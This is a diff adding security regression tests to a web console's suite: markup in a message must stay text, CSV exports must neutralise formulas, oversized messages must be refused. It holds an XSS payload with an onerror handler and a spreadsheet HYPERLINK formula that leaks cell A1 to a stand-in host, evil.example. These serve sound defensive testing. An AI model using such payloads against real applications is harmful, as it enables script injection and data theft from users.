@@ -465,6 +465,50 @@ def test_csv_export_neutralises_formulas(world: World) -> None:
     assert dangerous == []
 
 
+MESSAGE_MARKUP = '<img src=x onerror="window.__xss=4"><b id="msg-injected">请</b>'
+
+
+@needs_chromium
+@attack("xss")
+def test_markup_in_a_message_stays_text_in_details_and_audit(world: World,
+                                                             chief_page: Any) -> None:
+    """A console message is shown back in the seat's details and on the audit page."""
+    assert world.chief.act("message", world.zhang, reason="",
+                           text=MESSAGE_MARKUP).status_code == 200
+    chief_page.goto(f"{world.url}/console")
+    tile = chief_page.locator(f'.tile[data-candidate="{world.zhang}"]')
+    tile.wait_for()
+    tile.click()
+    chief_page.wait_for_selector("#detail .messages li")
+    assert MESSAGE_MARKUP in chief_page.inner_text("#detail .messages")
+    chief_page.goto(f"{world.url}/console/audit")
+    chief_page.wait_for_selector("#audit")
+    assert MESSAGE_MARKUP in chief_page.inner_text("#audit")
+    chief_page.wait_for_timeout(300)
+    assert chief_page.evaluate("window.__xss") is None
+    assert chief_page.locator("#msg-injected").count() == 0
+
+
+@attack("xss")
+def test_csv_export_neutralises_a_formula_in_a_message(world: World) -> None:
+    """The message text is the audit row's reason: a formula there is text in Excel."""
+    text = '  =HYPERLINK("http://evil.example/?"&A1,"点我")'
+    assert world.chief.act("message", world.li, reason="", text=text).status_code == 200
+    exported = world.chief.http.get(f"{world.url}/console/audit.csv", timeout=10)
+    rows = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert any("evil.example" in cell for cell in cells)
+    assert [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)] == []
+
+
+@attack("abuse")
+def test_huge_message_is_refused_and_sends_nothing(world: World) -> None:
+    before = len(world.audit_rows(action="message"))
+    response = world.chief.act("message", world.chen, reason="", text="长" * 100_000)
+    assert response.status_code in (400, 413, 422)
+    assert len(world.audit_rows(action="message")) == before
+
+
 # -- IDOR on the base photo ---------------------------------------------------------------
 
 @attack("idor")
